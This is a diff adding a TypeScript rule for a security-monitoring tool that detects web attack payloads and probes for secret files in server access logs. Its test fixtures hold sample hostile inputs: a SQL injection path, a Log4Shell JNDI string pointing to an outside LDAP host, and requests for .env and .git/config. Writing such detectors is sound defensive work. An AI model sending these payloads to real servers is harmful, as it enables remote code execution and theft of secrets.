@@ -1,0 +1,159 @@
+import { z } from 'zod'
+import { DAY, formatSpan } from '../core/time.ts'
+import type { EventView } from '../core/view.ts'
+import { defineRule } from '../kit/define-rule.ts'
+import { familiesOf, PAYLOAD_FAMILIES, traitsOf } from '../kit/payloads/index.ts'
+import { advise, blockSources } from '../kit/recommend.ts'
+import { ServedPages } from './support/served.ts'
+import { accessLine, type Answer, ANSWER_NAMES, ANSWERS, answerOf, shortTarget } from './support/web.ts'
+import { grouped, listed, many } from './support/words.ts'
+
+/** Pages that a site's own people use too: one request says nothing, a row of them that are not there does. */
+const AMBIGUOUS = traitsOf('wordpress_admin', 'phpmyadmin', 'actuator', 'server_status', 'generic_cgi', 'backup_file')
+/** Other rules' matter, or none by itself. */
+const ASIDE = traitsOf('open_proxy', 'double_encoding')
+/** What is told as found where it was served: files and pages, as against payloads that any page may be given. */
+const THINGS = traitsOf(
+  'env_file', 'git_exposure', 'secret_file', 'backup_file', 'actuator', 'server_status', 'phpunit_eval_stdin', 'webshell',
+  'cgi_shell_traversal', 'lfi_file_read', 'path_traversal', 'router_exploit', 'boaform', 'known_cve',
+)
+const MOST_EXAMPLES = 5
+const MOST_SERVED = 8
+
+/** What a source has tried: traits, examples, answers by kind, and what was served with which size and traits. */
+type Record = readonly [traits: number, examples: readonly string[], answers: readonly number[], served: readonly Served[]]
+type Served = readonly [target: string, size: number, traits: number]
+
+const EMPTY: Record = [0, [], ANSWERS.map(() => 0), []]
+
+function extend(record: Record, event: EventView, answer: Answer): Record {
+  const [traits, examples, answers, served] = record
+  const target = shortTarget(event)
+  const counts = answers.map((count, index) => (ANSWERS[index] === answer ? count + 1 : count))
+  const isNew = examples.length < MOST_EXAMPLES && !examples.includes(target)
+  const given = answer === 'served' && served.length < MOST_SERVED && !served.some(([known]) => known === target)
+  return [
+    (traits | event.traits) >>> 0,
+    isNew ? [...examples, target] : examples,
+    counts,
+    given ? [...served, [target, event.size, event.traits]] : served,
+  ]
+}
+
+const titles = (ids: readonly string[]): string[] => ids.map(id => PAYLOAD_FAMILIES.find(family => family.id === id)?.title ?? id)
+
+export default defineRule({
+  id: 'web-probe',
+  title: 'Attack payloads and probes for secrets on the web server',
+  severity: 'low',
+  confidence: 0.9,
+  techniques: ['T1190', 'T1595.002'],
+  description:
+    'Looks at what a request is after (payload families, told on the decoded path, parameters, referrer and agent) and at ' +
+    'how the server answered. One request with an attack in it is enough; pages that a site has for its own people count ' +
+    'when several that are not there were asked for. What was served weighs more than what was refused; an answer that ' +
+    'is the same page for everything counts as not served.',
+  on: ['web.request'],
+  options: {
+    ambiguous: z.int().min(1).max(1000).default(3)
+      .describe('Distinct management pages that were not there, asked for in a day, at which those alone are raised.'),
+  },
+  detect: ({ ambiguous }, { state }) => {
+    const records = state.memory<Record>('probes', { keep: 7 * DAY, cap: 50_000 })
+    const missed = state.distinctCount('missed', { window: DAY, limit: ambiguous, cap: 50_000 })
+    const pages = new ServedPages(state)
+    return {
+      observe(event, raise) {
+        pages.learn(event)
+        const traits = (event.traits & ~ASIDE) >>> 0
+        if (traits === 0 || event.source < 0) return
+        const { source, time } = event
+        const answer = answerOf(event.status)
+        if ((traits & THINGS) !== 0) pages.note(event)
+        const known = records.get(source, time)
+        let trail: ReturnType<typeof missed.trail>
+        if ((traits & ~AMBIGUOUS) === 0 && known === undefined) {
+          if (answer === 'served' || answer === 'redirected') return
+          if (missed.addEvent(source, event.path ?? '', event) < ambiguous) return
+          trail = missed.trail(source)
+        }
+        const record = extend(known ?? EMPTY, event, answer)
+        records.set(source, record, time)
+        const [all, examples, answers, served] = record
+        const found = served.filter(([, size, had]) => (had & THINGS) !== 0 && pages.isOwnPage(event, size))
+        raise.hit(source, event, {
+          trail,
+          facts: {
+            families: familiesOf(all),
+            examples,
+            answers: ANSWERS.flatMap((name, index) => (answers[index] > 0 ? [`${grouped(answers[index])} ${ANSWER_NAMES[name]}`] : [])),
+            found: found.map(([target]) => target),
+            taken: served.filter(([, , had]) => (had & THINGS) === 0).map(([target]) => target),
+            failed: answers[ANSWERS.indexOf('failed')],
+          },
+        })
+      },
+    }
+  },
+  explain: (story, _options, host) => {
+    const texts = (name: string): readonly string[] => {
+      const fact = story.facts[name]
+      return Array.isArray(fact) ? fact : []
+    }
+    const families = texts('families')
+    const found = texts('found')
+    const taken = texts('taken')
+    const exploits = PAYLOAD_FAMILIES.filter(family => family.exploit && families.includes(family.id))
+    const severity = found.length > 0 ? 'high' : exploits.length > 0 && (taken.length > 0 || Number(story.facts.failed ?? 0) > 0) ? 'medium' : 'low'
+    return {
+      title: `${many(story.count, 'probe')} from ${story.sources[0] ?? 'one source'}: ${listed(titles(families), 2)}`,
+      severity,
+      reasons: [
+        {
+          text: `${many(story.count, 'request')} in ${formatSpan(story.last - story.first)} for ${listed(titles(families), 8)}; visitors of a site send none`,
+          feature: 'payload_families',
+          observed: families.join(', '),
+          expected: 'none',
+        },
+        { text: `Answers: ${texts('answers').join(', ')}`, feature: 'answers' },
+        { text: `Asked for: ${listed(texts('examples'), MOST_EXAMPLES)}` },
+        ...(found.length > 0 ? [{ text: `The server gave, with pages of their own: ${listed(found, 8)}`, feature: 'served', observed: found.length, expected: '0' }] : []),
+        ...(found.length === 0 && taken.length > 0
+          ? [{ text: 'Pages that exist were given attack payloads and answered; whether they took effect the log does not tell' }]
+          : []),
+      ],
+      recommendations: [
+        ...(found.length > 0 ? [advise(`Look at what was served, remove it from the document root, and renew any secret in it: ${listed(found, 8)}`)] : []),
+        ...blockSources(story.sources, host),
+      ],
+    }
+  },
+  examples: {
+    fires: [
+      { name: 'one request for .env', lines: [accessLine('/.env')], accuses: ['203.0.113.7'], severity: 'low' },
+      {
+        name: 'a repository that was served',
+        lines: [accessLine('/', { source: '192.0.2.9', status: 200, size: 5120 }), accessLine('/.git/config', { status: 200, size: 274, second: 9 })],
+        severity: 'high',
+      },
+      { name: 'SQL injection that a page answered', lines: [accessLine("/item?id=1'+union+select+1,2--", { status: 200, size: 9000 })], severity: 'medium' },
+      { name: 'Log4Shell in the agent', lines: [accessLine('/', { status: 200, agent: '${jndi:ldap://198.51.100.9/a}' })], severity: 'medium' },
+      {
+        name: 'a row of management pages that are not there',
+        lines: ['/phpmyadmin/', '/wp-login.php', '/pma/', '/wp-admin/'].map((path, second) => accessLine(path, { second })),
+        severity: 'low',
+      },
+    ],
+    quiet: [
+      {
+        name: 'a WordPress site and the people who write it',
+        lines: ['/wp-login.php', '/wp-admin/', '/wp-admin/edit.php', '/wp-admin/admin-ajax.php', '/wp-admin/load-styles.php?c=1']
+          .map((path, second) => accessLine(path, { second, status: 200, size: 4000 + second })),
+      },
+      { name: 'names that look like it', lines: ['/.github/a.yml', '/app.envelope.js', '/.environment', '/shop/linear-actuator-12v', '/pets?tags=dog|cat', '/a;id/3'].map(path => accessLine(path)) },
+      { name: 'a bookmark of a page that moved', lines: [accessLine('/wp-login.php'), accessLine('/wp-login.php', { second: 60 })] },
+      { name: 'prose in a search', lines: [accessLine("/search?q=rock+and+roll+or+O'Brien", { status: 200 })] },
+    ],
+  },
+  falsePositives: ['Your own security scan.', 'A search engine that follows an attack which somebody published as a link.'],
+})
